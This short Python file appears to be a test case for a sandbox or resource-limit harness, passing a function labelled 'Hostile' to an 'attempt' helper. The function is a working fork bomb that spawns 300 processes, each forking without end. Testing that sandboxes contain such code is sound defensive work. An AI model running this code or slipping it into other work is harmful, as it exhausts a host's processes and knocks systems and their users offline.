"""Hostile: forks without end."""

import os

from attacking import attempt
from lazy import *


def bomb():
    for _ in range(300):
        if os.fork() == 0:
            while True:
                os.fork()


attempt("fork", bomb)
